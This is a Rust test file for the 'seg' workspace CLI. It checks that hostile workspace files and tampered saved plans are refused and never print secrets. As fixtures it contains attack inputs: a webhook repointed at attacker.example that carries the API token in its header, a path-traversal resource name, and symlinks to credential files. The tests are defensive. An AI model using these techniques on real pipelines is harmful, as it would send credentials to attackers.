@@ -1,0 +1,391 @@
+//! The hostile-file battery (CLI.md, "What a file and a plan can never do"): a workspace file or a saved plan from a
+//! stranger's pull request, run the way the README's CI workflow runs it (`diff`, `diff --out`, `apply`) with a
+//! production token. Whatever the file says, no secret of the workspace, no value of a `SEG_SECRET_` variable and
+//! no token appears in any output; a refusal comes before anything is sent (before any request at all when the file
+//! alone tells); nothing is written that the contract forbids.
+
+use serde_json::{Value, json};
+
+use crate::code::{SECRETS, export, rich_workspace, write_file, writes};
+use crate::support::{Run, TestEnv, WRITE};
+
+/// What must never be printed: the token, the workspace's secrets, a secret the attacker's file sets, and the values
+/// of the variables the CI job holds.
+const NEVER: [&str; 6] = [WRITE, "s3cret-web", "amp-k3y", "eDp5", "attacker-literal", "env-s3cret"];
+
+/// The job's environment: the token, and with `secrets` the variables the file's references name (a new value).
+fn vars(secrets: bool) -> Vec<(&'static str, &'static str)> {
+    let mut vars = vec![("SEG_TOKEN", WRITE)];
+    if secrets {
+        vars.extend(SECRETS.iter().map(|(name, _)| (*name, "env-s3cret")));
+    }
+    vars
+}
+
+#[track_caller]
+fn clean(run: &Run, what: &str) {
+    for secret in NEVER {
+        assert!(!run.stdout.contains(secret), "{what}: {secret} on stdout:\n{}", run.stdout);
+        assert!(!run.stderr.contains(secret), "{what}: {secret} on stderr:\n{}", run.stderr);
+    }
+}
+
+/// Files the file alone condemns: each refused by `diff`, `diff --out` and `apply` with exit 2, naming the place,
+/// before any request.
+fn refused_files(base: &str) -> Vec<(&'static str, String, &'static str)> {
+    let header_ref = "$env: SEG_SECRET_WEB_WEBHOOKS_HOOKS_1_AUTHORIZATION";
+    let shared_ref = "$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET";
+    vec![
+        (
+            "the token moved into a hook's header, the hook pointed at the attacker",
+            base.replace(header_ref, "$env: SEG_TOKEN").replace("https://b.example/in", "https://attacker.example/in"),
+            "SEG_TOKEN",
+        ),
+        ("a variable that is not a secret's", base.replace(shared_ref, "$env: HOME"), "HOME"),
+        (
+            "a reference in a tracking plan's rules",
+            base.replace(
+                "      global:\n        type: object\n",
+                "      global:\n        x: {$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET}\n",
+            ),
+            "may stand only inside a destination's config",
+        ),
+        (
+            "a reference in a filter's condition",
+            base.replace("if: userId = 'test'", "if: {$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET}"),
+            "may stand only inside a destination's config",
+        ),
+        (
+            "a reference in a label",
+            base.replace("      team: growth\n", "      team: {$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET}\n"),
+            "may stand only inside a destination's config",
+        ),
+        (
+            "a reference beside other keys",
+            base.replace(shared_ref, "$env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET\n            x: 1"),
+            "one key",
+        ),
+        (
+            "a source given twice (the second would win)",
+            base.replace(
+                "tracking_plans:\n",
+                "  web:\n    catalog_name: catalog/sources/javascript\ntracking_plans:\n",
+            ),
+            "given twice",
+        ),
+        ("a slug the service refuses", base.replace("  ios:\n", "  iOS:\n"), "not a slug"),
+        (
+            "an alias carrying a reference out of config",
+            base.replace("sharedSecret:\n            $env", "sharedSecret: &s\n            $env")
+                .replace("      global:\n        type: object\n", "      global: *s\n"),
+            "alias",
+        ),
+        (
+            "nesting that would overflow a stack",
+            base.replace(
+                "globalHook: https://legacy.example/in",
+                &format!("globalHook: {}{}", "[".repeat(5000), "]".repeat(5000)),
+            ),
+            "deeper than",
+        ),
+        ("another format", base.replace("format: seg/1", "format: seg/9"), "seg/9"),
+        (
+            "a plan's rules of the wrong shape",
+            base.replace("      events: []\n", "      events: [1]\n"),
+            "must hold objects",
+        ),
+    ]
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_file_that_breaks_the_contract_is_refused_before_any_request_and_prints_no_secret() {
+    let env = rich_workspace().await;
+    let base = export(&env).await;
+    env.clear_requests().await;
+    for (what, text, says) in refused_files(&base) {
+        let file = write_file(&env, "pr.yaml", &text);
+        let out = env.path("plan.json");
+        let _ = std::fs::remove_file(&out);
+        for secrets in [false, true] {
+            for args in [
+                vec!["diff", "--file", &file],
+                vec!["diff", "--file", &file, "-o", "json"],
+                vec!["diff", "--file", &file, "--out", out.to_str().unwrap()],
+                vec!["apply", "--file", &file, "--yes"],
+                vec!["apply", "--file", &file, "--prune", "--yes"],
+            ] {
+                let run = env.seg_with(&args, &vars(secrets)).await;
+                let said = format!("{what}: {args:?}\n{}", run.stderr);
+                assert_eq!(run.code, 2, "{said}");
+                assert!(run.stderr.contains(says) && run.stderr.contains("line"), "{said}");
+                clean(&run, what);
+                assert!(env.requests().await.is_empty(), "{said}: a request was sent");
+                assert!(!out.exists(), "{said}: a plan was written");
+            }
+        }
+    }
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_file_that_reaches_for_secrets_shows_them_only_as_markers() {
+    let env = rich_workspace().await;
+    let base = export(&env).await;
+    // The hook that carries the Authorization header now points at the attacker, the shared secret is set to a value
+    // the attacker knows, and a new destination gets a password typed only by its catalog entry... every secret of
+    // the plan shows as a marker, with and without the variables.
+    let text = base.replace("https://b.example/in", "https://attacker.example/in").replace(
+        "sharedSecret:\n            $env: SEG_SECRET_WEB_WEBHOOKS_SHAREDSECRET",
+        "sharedSecret: attacker-literal",
+    );
+    let file = write_file(&env, "pr.yaml", &text);
+    env.clear_requests().await;
+    for secrets in [false, true] {
+        let run = env.seg_with(&["diff", "--file", &file, "-o", "table"], &vars(secrets)).await;
+        assert_eq!(run.code, 1, "{}", run.stderr);
+        clean(&run, "diff");
+        assert!(run.stdout.contains("destination.config.sharedSecret: (secret changed)"), "{}", run.stdout);
+        assert!(run.stdout.contains("attacker.example") && run.stdout.contains("(secret"), "{}", run.stdout);
+        let run = env.seg_with(&["diff", "--file", &file, "-o", "json"], &vars(secrets)).await;
+        clean(&run, "diff -o json");
+        let plan = run.json();
+        let fields: Vec<&Value> =
+            plan["changes"].as_array().unwrap().iter().flat_map(|c| c["fields"].as_array().unwrap()).collect();
+        let shared = fields.iter().find(|f| f["path"] == "destination.config.sharedSecret").unwrap();
+        assert_eq!((&shared["from"], &shared["to"]), (&json!("(secret changed)"), &json!("(secret changed)")));
+        // A saved plan would carry the literal: refused, nothing written.
+        let out = env.path("plan.json");
+        let run = env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(secrets)).await;
+        assert_eq!(run.code, 2, "{}", run.stderr);
+        assert!(run.stderr.contains("written literally") && !out.exists(), "{}", run.stderr);
+        clean(&run, "diff --out");
+        // A dry run describes the requests with the secrets masked.
+        let run = env.seg_with(&["apply", "--file", &file, "--dry-run"], &vars(true)).await;
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        clean(&run, "apply --dry-run");
+    }
+    assert!(writes(&env).await.is_empty(), "diff and a dry run send no write");
+    // Without the literal, the plan can be saved: it holds the references, never a value.
+    let text = base.replace("https://b.example/in", "https://attacker.example/in");
+    let file = write_file(&env, "pr.yaml", &text);
+    let out = env.path("plan.json");
+    let run = env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(true)).await;
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let saved = std::fs::read_to_string(&out).unwrap();
+    for secret in NEVER {
+        assert!(!saved.contains(secret), "{secret} in the saved plan:\n{saved}");
+    }
+    assert!(saved.contains("SEG_SECRET_WEB_WEBHOOKS_HOOKS_1_AUTHORIZATION"), "{saved}");
+    // Applied with the variables: the header is sent with the variable's value, and no output shows it.
+    let run = env.seg_with(&["apply", "--plan", out.to_str().unwrap()], &vars(true)).await;
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    clean(&run, "apply --plan");
+    // (The variables hold new values for every secret: the shared secret and amplitude's key change too.)
+    let sent = writes(&env).await;
+    assert_eq!(sent.len(), 2, "{sent:?}");
+    let hooks = sent[0].2.pointer("/destination/config/0/value/1").unwrap();
+    assert_eq!(
+        hooks,
+        &json!({"hook": "https://attacker.example/in", "headers": [{"key": "Authorization", "value": "env-s3cret"}]})
+    );
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_delete_counts_what_it_takes_with_it_before_any_write() {
+    let env = rich_workspace().await;
+    let base = export(&env).await;
+    // The file without the web source: with --prune, deleting it takes its 2 destinations, their 2 filters and its
+    // connection to Main plan.
+    let start = base.find("  web:\n").unwrap();
+    let end = base.find("  ios:\n").unwrap();
+    let text = format!("{}{}", &base[..start], &base[end..]).replace("    - web\n", "");
+    let file = write_file(&env, "pr.yaml", &text);
+    env.clear_requests().await;
+    let run = env.seg_with(&["diff", "--file", &file, "--prune", "-o", "json"], &vars(true)).await;
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    let plan = run.json();
+    let delete = plan["changes"].as_array().unwrap().iter().find(|c| c["action"] == "delete").unwrap().clone();
+    assert_eq!(delete["resource"], "workspaces/acme/sources/web");
+    let with: Vec<&str> = delete["with"].as_array().unwrap().iter().map(|w| w.as_str().unwrap()).collect();
+    assert_eq!(
+        with.iter().filter(|w| w.ends_with("/destinations/webhooks") || w.ends_with("/destinations/amplitude")).count(),
+        2,
+        "{with:?}"
+    );
+    assert_eq!(with.iter().filter(|w| w.contains("/filters/")).count(), 2, "{with:?}");
+    assert_eq!(with.iter().filter(|w| w.contains("/source-connections/web")).count(), 1, "{with:?}");
+    let run = env.seg_with(&["diff", "--file", &file, "--prune", "-o", "table"], &vars(true)).await;
+    assert!(
+        run.stdout.contains("with destination workspaces/acme/sources/web/destinations/webhooks"),
+        "{}",
+        run.stdout
+    );
+    // --max-deletes counts them: 1 source is 6 deletes.
+    for max in ["1", "5"] {
+        let run =
+            env.seg_with(&["apply", "--file", &file, "--prune", "--max-deletes", max, "--yes"], &vars(true)).await;
+        assert_eq!(run.code, 2, "{}", run.stderr);
+        assert!(
+            run.stderr.contains("6 resources") && run.stderr.contains("1 source, 2 destinations, 2 filters"),
+            "{}",
+            run.stderr
+        );
+    }
+    let run = env.seg_with(&["apply", "--file", &file, "--prune"], &vars(true)).await;
+    assert!(run.code == 2 && run.stderr.contains("--yes"), "{}", run.stderr);
+    assert!(writes(&env).await.is_empty(), "a refusal sent a write");
+    env.seg_with(&["apply", "--file", &file, "--prune", "--max-deletes", "6", "--yes"], &vars(true)).await.code(0);
+}
+
+/// A plan saved by `diff --out` that enables amplitude, for the saved-plan battery to edit.
+async fn saved_plan(env: &TestEnv) -> (Value, String) {
+    let text = export(env).await.replace(
+        "        enabled: false\n        connection_mode: DEVICE",
+        "        enabled: true\n        connection_mode: DEVICE",
+    );
+    let file = write_file(env, "pr.yaml", &text);
+    let out = env.path("plan.json");
+    env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(false)).await.code(1);
+    let plan: Value = serde_json::from_str(&std::fs::read_to_string(&out).unwrap()).unwrap();
+    assert_eq!(plan["changes"].as_array().unwrap().len(), 1, "{plan}");
+    (plan, out.to_str().unwrap().to_string())
+}
+
+/// An edit of a saved plan: what it is, the edit, extra arguments, the exit code it must get.
+type Edit = (&'static str, Box<dyn Fn(&mut Value)>, &'static [&'static str], i32);
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_saved_plan_is_checked_not_trusted() {
+    let env = rich_workspace().await;
+    let (plan, path) = saved_plan(&env).await;
+    const AMPLITUDE: &str = "workspaces/acme/sources/web/destinations/amplitude";
+    const WEBHOOKS: &str = "workspaces/acme/sources/web/destinations/webhooks";
+    let (amplitude, webhooks) = (AMPLITUDE, WEBHOOKS);
+    let edits: Vec<Edit> = vec![
+        (
+            "a request hidden under the change's label",
+            Box::new(move |p| {
+                p["changes"][0]["op"]["update"] = json!({"destination": {"config": [{"name": format!("{amplitude}/config/apiKey"), "value": "x"}]},
+                    "update_mask": {"paths": ["destination.config"]}});
+            }),
+            &[],
+            2,
+        ),
+        (
+            "the request sent to another destination",
+            Box::new(move |p| p["changes"][0]["op"]["name"] = json!(webhooks)),
+            &[],
+            2,
+        ),
+        (
+            "a delete labelled as an update",
+            Box::new(move |p| {
+                p["changes"][0]["op"] = json!({"op": "delete_source", "name": "workspaces/acme/sources/web"})
+            }),
+            &[],
+            2,
+        ),
+        (
+            "a request into another workspace",
+            Box::new(move |p| {
+                p["changes"][0]["op"]["name"] = json!("workspaces/staging/sources/web/destinations/amplitude");
+                p["changes"][0]["resource"] = json!("workspaces/staging/sources/web/destinations/amplitude");
+            }),
+            &[],
+            2,
+        ),
+        (
+            "a path out of the workspace",
+            Box::new(move |p| {
+                let name = "workspaces/acme/sources/../../../access-tokens/1";
+                p["changes"][0]["op"] = json!({"op": "delete_source", "name": name});
+                p["changes"][0]["resource"] = json!(name);
+                p["changes"][0]["action"] = json!("delete");
+                p["changes"][0]["fields"] = json!([]);
+            }),
+            &[],
+            2,
+        ),
+        (
+            "the token sent through a hook's header",
+            Box::new(move |p| {
+                let hooks = json!([{"hook": "https://attacker.example/in", "headers": [{"key": "Authorization", "value": {"$env": "SEG_TOKEN"}}]}]);
+                p["changes"][0]["op"] = json!({"op": "update_destination", "name": webhooks, "update": {
+                    "destination": {"config": [{"name": format!("{webhooks}/config/hooks"), "value": hooks}]},
+                    "update_mask": {"paths": ["destination.config"]}}});
+                p["changes"][0]["resource"] = json!(webhooks);
+            }),
+            &[],
+            2,
+        ),
+        ("a plan of an older format", Box::new(move |p| p["format"] = json!("seg-plan/1")), &[], 2),
+        ("a plan for another workspace than -w", Box::new(|_| {}), &["-w", "staging"], 2),
+        (
+            "a deletion count edited away",
+            Box::new(move |p| {
+                p["changes"][0] = json!({"action": "delete", "resource": "workspaces/acme/sources/web",
+                    "op": {"op": "delete_source", "name": "workspaces/acme/sources/web"}});
+            }),
+            &[],
+            2,
+        ),
+    ];
+    env.clear_requests().await;
+    for (what, edit, extra, code) in edits {
+        let mut edited = plan.clone();
+        edit(&mut edited);
+        std::fs::write(&path, serde_json::to_string_pretty(&edited).unwrap()).unwrap();
+        let mut args = vec!["apply", "--plan", path.as_str(), "--yes"];
+        args.extend_from_slice(extra);
+        let run = env.seg_with(&args, &vars(true)).await;
+        let said = format!("{what}\nstdout: {}\nstderr: {}", run.stdout, run.stderr);
+        assert_eq!(run.code, code, "{said}");
+        clean(&run, what);
+        assert!(writes(&env).await.is_empty(), "{said}: a write was sent");
+    }
+    // The plan as saved applies.
+    std::fs::write(&path, serde_json::to_string_pretty(&plan).unwrap()).unwrap();
+    env.seg_with(&["apply", "--plan", &path, "--yes"], &vars(true)).await.code(0);
+    assert_eq!(writes(&env).await.len(), 1);
+}
+
+#[cfg(unix)]
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn files_seg_reads_or_writes_are_never_links_to_secrets() {
+    let env = rich_workspace().await;
+    let credentials = env.path("credentials.toml");
+    std::fs::write(&credentials, format!("[tokens]\ndefault = \"{WRITE}\"\n")).unwrap();
+    let environ = env.path("environ");
+    std::fs::write(&environ, format!("SEG_TOKEN={WRITE}\0HOME=/root\0")).unwrap();
+    let dotenv = env.path("dotenv");
+    std::fs::write(&dotenv, format!("SEG_TOKEN={WRITE}\n")).unwrap();
+    env.clear_requests().await;
+    // A committed workspace file that is a link to a secret: refused, nothing quoted.
+    for target in [&credentials, &environ, &dotenv] {
+        let link = env.path("linked.yaml");
+        let _ = std::fs::remove_file(&link);
+        std::os::unix::fs::symlink(target, &link).unwrap();
+        for args in
+            [vec!["diff", "--file", link.to_str().unwrap()], vec!["apply", "--file", link.to_str().unwrap(), "--yes"]]
+        {
+            let run = env.seg_with(&args, &vars(true)).await;
+            assert_eq!(run.code, 2, "{args:?}: {}", run.stderr);
+            clean(&run, "a linked file");
+        }
+    }
+    // A committed plan.json or export that is a link to a secret: refused, the secret's file untouched.
+    let text = export(&env).await;
+    let file = write_file(&env, "pr.yaml", &text.replace("connection_mode: DEVICE", "connection_mode: CLOUD"));
+    let out = env.path("plan.json");
+    std::os::unix::fs::symlink(&credentials, &out).unwrap();
+    let run = env.seg_with(&["diff", "--file", &file, "--out", out.to_str().unwrap()], &vars(true)).await;
+    assert_eq!(run.code, 2, "{}", run.stderr);
+    assert!(run.stderr.contains("symbolic link"), "{}", run.stderr);
+    let run = env.seg_with(&["-w", "acme", "export", "--file", out.to_str().unwrap()], &vars(true)).await;
+    assert_eq!(run.code, 2, "{}", run.stderr);
+    clean(&run, "export to a link");
+    assert_eq!(std::fs::read_to_string(&credentials).unwrap(), format!("[tokens]\ndefault = \"{WRITE}\"\n"));
+    assert!(writes(&env).await.is_empty());
+    // Standard streams named as such are written through.
+    let run = env.seg_with(&["-w", "acme", "export", "--file", "/dev/stdout"], &vars(false)).await;
+    assert!(run.code(0).stdout.starts_with("format: seg/1"), "{}", run.stdout);
+}
